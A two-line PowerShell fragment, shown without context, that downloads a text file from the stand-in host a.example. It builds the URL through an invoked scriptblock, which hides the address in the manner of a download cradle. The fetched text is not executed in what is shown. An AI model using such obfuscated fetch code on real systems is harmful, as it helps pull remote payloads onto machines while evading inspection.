$wc = New-Object System.Net.WebClient
$wc.DownloadString(({param($a) $a+'/p/x.txt'}.Invoke('http://a.example')))
